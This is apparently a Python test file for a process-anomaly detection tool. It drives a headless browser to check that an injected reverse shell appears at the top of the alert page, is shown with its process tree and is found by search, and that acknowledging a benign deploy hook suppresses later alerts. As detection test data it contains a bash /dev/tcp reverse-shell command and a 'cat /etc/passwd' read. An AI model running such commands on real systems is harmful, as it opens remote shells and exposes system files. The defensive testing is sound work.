"""The triage page in a real browser (headless Chromium), against a running receiver with auth on: what a
person sees. An injected reverse shell is at the top with its reasons, clicking it shows its process
tree, a search in plain words finds it, and acknowledging a benign alert stops it alerting again.

Each view's screenshot is saved; `PROCSIGHT_SCREENSHOTS=docs/screenshots` regenerates the ones the README
shows (by default they go to a temporary directory, so a test run leaves the checkout as it was).
"""

from __future__ import annotations

import os
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests
from conftest import Stack, event_attributes, receiver_config, running_stack, web_resource
from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest

from testing import wait_until
from testing.browser import chromium
from testing.otlp_sink import OtlpSink
from testing.otlp_values import key_values

pytestmark = pytest.mark.slow

SCREENSHOTS = Path(os.environ.get("PROCSIGHT_SCREENSHOTS") or tempfile.mkdtemp(prefix="procsight-screenshots-"))
TOKEN = "page-token"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
REVERSE_SHELL = "sh -c bash -i >& /dev/tcp/127.0.0.1/9 0>&1"
HOOK = "sh -c /opt/app/hooks/post-deploy.sh"  # the app's own deploy hook: new, and a shell under nginx
TWO_RUNS = "\u00d7 2"  # how a line counts a command that ran twice

# (pid, parent pid, executable, command line, parent executable, uid): nginx with two workers, and the
# host's routine (log rotation, backups) a dozen times over, so the baseline knows them.
ROUTINE = [(100, 1, "nginx", "nginx -g daemon off;", "systemd", 0),
           (101, 100, "nginx", "nginx: worker process", "nginx", 33),
           (102, 100, "nginx", "nginx: worker process", "nginx", 33)]
for _round in range(12):
    base = 1000 + _round * 10
    ROUTINE += [(base, 2, "logrotate", "logrotate /etc/logrotate.conf", "cron", 0),
                (base + 1, base, "gzip", "gzip -9 /var/log/nginx/access.log.1", "logrotate", 0),
                (base + 2, 2, "tar", "tar czf /backup/www.tgz /var/www", "cron", 0),
                (base + 3, 2, "find", "find /backup -mtime +7 -delete", "cron", 0)]
INTRUSION = [(900, 101, "sh", REVERSE_SHELL, "nginx", 33), (901, 900, "bash", "bash -i", "sh", 33),
             (902, 901, "id", "id", "bash", 33), (903, 901, "cat", "cat /etc/passwd", "bash", 33)]


def send(stack: Stack, events: list[tuple[int, int, str, str, str, int]], host: str = "web-1") -> None:
    request = ExportLogsServiceRequest()
    resource_logs = request.resource_logs.add()
    resource_logs.resource.attributes.extend(key_values({**web_resource(), "host.name": host}))
    records = resource_logs.scope_logs.add().log_records
    for event in events:
        record = records.add()
        record.time_unix_nano = time.time_ns()
        record.event_name = "process.exec"
        record.body.string_value = event[3]
        record.attributes.extend(key_values(event_attributes(*event)))
    answer = requests.post(f"http://{stack.service.http_endpoint()}/v1/logs", data=request.SerializeToString(),
                           headers={**AUTH, "Content-Type": "application/x-protobuf"}, timeout=10)
    assert answer.status_code == 200, answer.text


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    tmp_path = tmp_path_factory.mktemp("page")
    with OtlpSink() as sink:
        config = receiver_config(tmp_path, {})
        config["extensions"]["bearertokenauth"] = {"token": TOKEN}
        config["service"]["extensions"].append("bearertokenauth")
        for protocol in ("grpc", "http"):
            config["receivers"]["otlp"]["protocols"][protocol]["auth"] = {"authenticator": "bearertokenauth"}
        with running_stack(tmp_path, config, sink) as running:
            send(running, ROUTINE)
            send(running, INTRUSION)
            send(running, [(950, 102, "sh", HOOK, "nginx", 33)], host="web-2")  # another server, same workload
            running.rows(len(ROUTINE) + len(INTRUSION) + 1)
            yield running


@pytest.fixture(scope="module")
def browser(stack: Stack) -> Iterator[Any]:
    with chromium() as driver:
        driver.implicitly_wait(0)
        driver.get(f"http://{stack.service.http_endpoint()}/ui/")
        yield driver


def shot(browser: Any, name: str) -> None:
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    browser.save_screenshot(str(SCREENSHOTS / f"{name}.png"))


def find(browser: Any, css: str, timeout: float = 20.0) -> list[Any]:
    """The elements matching `css` once there is at least one."""
    wait_until(lambda: browser.find_elements("css selector", css), timeout=timeout, what=f"{css} on the page")
    return browser.find_elements("css selector", css)


def text_of(browser: Any, css: str) -> str:
    return find(browser, css)[0].text


def test_the_page_asks_for_the_token_then_shows_the_reverse_shell_at_the_top_with_its_reasons(
        browser: Any, stack: Stack) -> None:
    find(browser, "#token-form:not([hidden])")  # auth is on: no data without the token
    assert not browser.find_elements("css selector", "#anomaly-table .row")
    browser.find_element("css selector", "#token-input").send_keys(TOKEN)
    browser.find_element("css selector", "#token-form button").click()
    top = find(browser, "#anomaly-table .row")[0]
    wait_until(lambda: REVERSE_SHELL in top.text, timeout=10, what="the reverse shell in the first row")
    assert "ALERT" in top.text and "incident" in top.text  # one line for the chain
    reasons = requests.get(f"http://{stack.service.http_endpoint()}/api/anomalies", headers=AUTH,
                           timeout=10).json()["results"][0]["reasons"]
    evidence = next(reason for reason in reasons if "[T" in reason)
    assert evidence in top.text, "the evidence, with its ATT&CK technique, is on the line"
    assert all(reason in top.get_attribute("title") for reason in reasons), "every reason on hover"
    assert find(browser, "#chart rect.alert"), "the volume chart shows the alerts"
    shot(browser, "anomalies")


def test_clicking_it_shows_its_process_tree(browser: Any) -> None:
    find(browser, "#anomaly-table .row")[0].click()
    tree = find(browser, "#event-tree ul.tree")[0]
    shell = tree.find_element("xpath", f".//span[contains(@class,'node') and text()={xpath_text(REVERSE_SHELL)}]")
    branch = shell.find_element("xpath", "..")  # its <li>
    children = [node.text for node in branch.find_elements("css selector", ":scope > ul > li > span.node")]
    assert children == ["bash -i"]
    grandchildren = branch.find_elements("css selector", ":scope > ul > li > ul > li > span.node")
    assert [node.text for node in grandchildren] == ["id", "cat /etc/passwd"]
    contexts = [node.text for node in tree.find_elements("css selector", ".context")]
    assert contexts[0] == "systemd" and contexts[-1] == "nginx"  # who started it, right above the chain
    assert find(browser, "#event-reasons .chip"), "reasons name their ATT&CK technique"
    assert "SELECT" in text_of(browser, "#event-sql pre")
    assert "process.command_line" in text_of(browser, "#event-raw")
    shot(browser, "event")


def xpath_text(text: str) -> str:
    return f'"{text}"' if '"' not in text else f"'{text}'"


def test_a_search_in_plain_words_finds_it(browser: Any) -> None:
    browser.find_element("css selector", "header nav a[data-view=search]").click()
    field = find(browser, "#search-input")[0]
    field.clear()
    field.send_keys("reverse shell")
    browser.find_element("css selector", "#search-form button").click()
    first = find(browser, "#search-results li[data-record-id]")[0]
    assert first.find_element("css selector", "code").text == REVERSE_SHELL
    assert "Reverse or bind shell" in first.text
    shot(browser, "search")


def test_acknowledging_a_benign_alert_stops_it_alerting_again(browser: Any, stack: Stack) -> None:
    browser.get(browser.current_url.split("#")[0] + "#/baselines")
    held = find(browser, "#baselines tr[data-workload=web] details")[0]
    held.find_element("css selector", "summary").click()
    assert HOOK in held.text and "detecting" in text_of(browser, "#baselines tr[data-workload=web]")
    shot(browser, "baselines")

    browser.get(browser.current_url.split("#")[0] + "#/anomalies")
    click_row(browser, HOOK)
    find(browser, "#acknowledge")[0].click()
    wait_until(lambda: "Learned as normal on web" in browser.find_element("css selector", "#message").text,
               timeout=30, what="the acknowledgement")

    send(stack, [(951, 102, "sh", HOOK, "nginx", 33)], host="web-2")  # it runs again at the next deploy
    stack.rows(len(ROUTINE) + len(INTRUSION) + 2)
    browser.get(browser.current_url.split("#")[0] + "#/anomalies")
    select(browser, "#f-group", "pattern")
    select(browser, "#f-severity", "none,warn,alert")
    wait_until(lambda: TWO_RUNS in row_text(browser, HOOK), timeout=20, what="both runs of the hook")
    select(browser, "#f-severity", "alert")
    # Among alerts, the hook's line counts its first run only: the second, after the acknowledgement, is none.
    wait_until(lambda: row_text(browser, HOOK) and TWO_RUNS not in row_text(browser, HOOK), timeout=20,
               what="the hook's line among alerts, without its second run")


def row_text(browser: Any, text: str) -> str:
    """The text of the list's line containing `text` ("" when none). The list redraws itself every few
    seconds, so elements are read in one script call instead of one by one."""
    return browser.execute_script(
        "return [...document.querySelectorAll('#anomaly-table .row')].map(r => r.innerText)"
        ".find(t => t.includes(arguments[0])) || ''", text)


def click_row(browser: Any, text: str) -> None:
    wait_until(lambda: row_text(browser, text), timeout=20, what=f"a row with {text!r}")
    browser.execute_script(
        "[...document.querySelectorAll('#anomaly-table .row')].find(r => r.innerText.includes(arguments[0])).click()",
        text)


def select(browser: Any, css: str, value: str) -> None:
    from selenium.webdriver.support.ui import Select

    Select(browser.find_element("css selector", css)).select_by_value(value)
